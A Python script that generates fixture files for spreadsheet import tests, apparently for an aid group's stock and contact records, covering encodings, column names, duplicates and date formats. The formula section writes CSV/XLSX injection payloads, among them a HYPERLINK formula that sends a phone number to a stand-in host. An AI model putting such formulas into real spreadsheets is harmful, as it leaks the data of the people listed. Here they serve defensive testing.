"""
Writes the hostile spreadsheets the import tests read, as Excel and people make them.
Run once from this folder (python make_files.py); the files are committed beside it.
Phone numbers are in 01 99 00, kept by ARCEP for fiction.
"""

from openpyxl import Workbook

SITE = "Calais – Hospital site"

# 10,000 rows of stock: more than one file may bring in at a time.
with open("stock_10000_rows.csv", "w", encoding="utf-8", newline="") as out:
    out.write("site,item,size,quantity,donor\n")
    for n in range(10_000):
        out.write(f"{SITE},Sleeping bag,,{n % 9 + 1},Appeal {n % 7}\n")

# A French Excel export with its own column names, separated by semicolons.
with open("stock_wrong_columns.csv", "w", encoding="utf-8-sig", newline="") as out:
    out.write("Lieu;Article;Qté\n")
    out.write(f"{SITE};Sac de couchage;10\n")

# Excel's "Unicode text": UTF-16 with a byte-order mark, tab-separated, Arabic names.
rows = ["name\tphone\tlanguage\tsite\tsms_consent"]
rows += [f"أحمد\t01 99 00 10 01\tar\t{SITE}\tنعم", f"فاطمة\t\tar\t{SITE}\tno"]
with open("people_utf16.csv", "w", encoding="utf-16", newline="") as out:
    out.write("\r\n".join(rows) + "\r\n")

# A CSV saved by Excel on an Arabic Windows: Windows-1256.
rows = ["name,phone,language,site,sms_consent"]
rows += [f"محمد,01 99 00 10 02,ar,{SITE},yes", f"خديجة,,ar,{SITE},no"]
rows += [f"يوسف,,ar,{SITE},no", f"مريم علي,,ar,{SITE},no"]
with open("people_cp1256.csv", "w", encoding="cp1256", newline="") as out:
    out.write("\r\n".join(rows) + "\r\n")

# Formulas where names should be, in XLSX and in CSV.
book = Workbook()
sheet = book.active
sheet.append(["name", "phone", "language", "site"])
sheet.append(['=HYPERLINK("http://example.invalid/?leak="&B2,"Click")', "", "ar", SITE])
sheet.append(["Samir", "", "ar", SITE])
book.save("people_formulas.xlsx")
with open("people_formulas.csv", "w", encoding="utf-8", newline="") as out:
    out.write("name,phone,language,site\n")
    out.write('"=HYPERLINK(""http://example.invalid"",""x"")",,ar,' + SITE + "\n")
    out.write("@SUM(1+1),,ar," + SITE + "\n")
    out.write("Samir,,ar," + SITE + "\n")

# The same phone twice in the file.
with open("people_duplicate_phones.csv", "w", encoding="utf-8", newline="") as out:
    out.write("name,phone,language,site\n")
    out.write(f"Ali,01 99 00 10 03,ar,{SITE}\n")
    out.write(f"Omar,+33 1 99 00 10 03,ti,{SITE}\n")
    out.write(f"Dawit,01 99 00 10 04,ti,{SITE}\n")

# Departure dates in three formats, and one in month-first order.
with open("volunteers_dates.csv", "w", encoding="utf-8", newline="") as out:
    out.write("email,leaves_on\n")
    out.write("anna@example.org,31/12/2030\n")
    out.write("ben@example.org,2030-12-30\n")
    out.write("chloe@example.org,29.12.2030\n")
    out.write("dan@example.org,12/31/2030\n")
